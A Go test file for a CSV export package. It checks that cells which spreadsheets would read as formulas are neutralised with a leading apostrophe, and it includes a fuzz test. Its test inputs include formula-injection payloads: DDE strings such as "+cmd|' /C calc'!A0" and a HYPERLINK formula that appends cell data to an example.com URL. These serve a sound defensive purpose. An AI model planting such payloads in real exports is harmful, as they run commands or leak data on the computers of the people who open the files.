package csvexport

import (
	"bytes"
	"encoding/csv"
	"errors"
	"os"
	"regexp"
	"strings"
	"testing"
)

func TestNeutralize(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://example.com","Ana")`: `'=HYPERLINK("http://example.com","Ana")`,
		"+1 213 555 0100":                        "'+1 213 555 0100",
		"-2+3+cmd|' /C calc'!A0":                 "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0":            "'@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1":                                 "'\t=1+1",
		"\r=1+1":                                 "'\r=1+1",
		"Ana Ejemplo Prueba":                     "Ana Ejemplo Prueba",
		"María José = Ejemplo":                   "María José = Ejemplo",
		"":                                       "",
		"'already text":                          "'already text",
		"-200.00":                                "-200.00", // a reversing entry's amount stays a number
		"-15":                                    "-15",
		"-":                                      "'-",
		"-.5":                                    "'-.5",
		"-2.":                                    "'-2.",
		"-2.5.1":                                 "'-2.5.1",
		"-1-1":                                   "'-1-1",
	} {
		if got := Neutralize(in); got != want {
			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestWriter_FormulaInjection writes cells that would run in a spreadsheet
// and compares the file byte for byte with testdata/formulas.csv.
func TestWriter_FormulaInjection(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	err := w.WriteAll([][]string{
		{"legal_name", "phone", "notes"},
		{"Ana Ejemplo Prueba", "+1 213 555 0100", `=HYPERLINK("http://example.com/x?d="&A2,"Ver")`},
		{"@Luis Ejemplo", "-", "+cmd|' /C calc'!A0"},
		{"Eva Ejemplo Prueba", "213-555-0100", "\tTab, then text"},
		{"Niño Ejemplo Muñoz", "", "line one\nline two"},
	})
	if err != nil {
		t.Fatal(err)
	}
	want, err := os.ReadFile("testdata/formulas.csv")
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(b.Bytes(), want) {
		t.Errorf("got:\n%q\nwant:\n%q", b.Bytes(), want)
	}
	// Read back, no cell starts a formula.
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs {
		for _, c := range r {
			if startsFormula(c) {
				t.Errorf("cell %q starts a formula", c)
			}
		}
	}
}

// startsFormula reports whether a spreadsheet would read cell as a
// formula: a negative decimal number alone is a number.
func startsFormula(cell string) bool {
	return cell != "" && strings.IndexByte("=+-@\t\r", cell[0]) >= 0 && !plainNegative.MatchString(cell)
}

var plainNegative = regexp.MustCompile(`^-[0-9]+(\.[0-9]+)?$`)

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriter_Error(t *testing.T) {
	w := NewWriter(failWriter{})
	if err := w.Write([]string{"a"}); err == nil {
		t.Fatal("no error")
	}
	if err := w.Flush(); err == nil {
		t.Fatal("no error from Flush")
	}
}

// FuzzWriter checks that whatever is written reads back as the neutralized
// cells, none of which starts a formula.
func FuzzWriter(f *testing.F) {
	f.Add("=1+1", "+1 213 555 0100", "Ana \"Ejemplo\"\nPrueba")
	f.Add("", "@x", "\r\n")
	f.Fuzz(func(t *testing.T, a, b, c string) {
		var buf bytes.Buffer
		w := NewWriter(&buf)
		in := []string{a, b, c}
		if err := w.WriteAll([][]string{in}); err != nil {
			t.Fatal(err)
		}
		if !bytes.HasPrefix(buf.Bytes(), []byte("\uFEFF")) {
			t.Fatal("no byte order mark")
		}
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\uFEFF"))))
		r.FieldsPerRecord = -1
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatalf("written file does not read: %v", err)
		}
		for _, rec := range recs {
			for _, c := range rec {
				if startsFormula(c) {
					t.Fatalf("cell %q read back starts a formula", c)
				}
			}
		}
		for i, cell := range in {
			n := Neutralize(cell)
			if startsFormula(n) {
				t.Fatalf("cell %d %q starts a formula", i, n)
			}
			if strings.TrimPrefix(n, "'") != cell && n != cell {
				t.Fatalf("cell %d %q changed to %q", i, cell, n)
			}
		}
	})
}
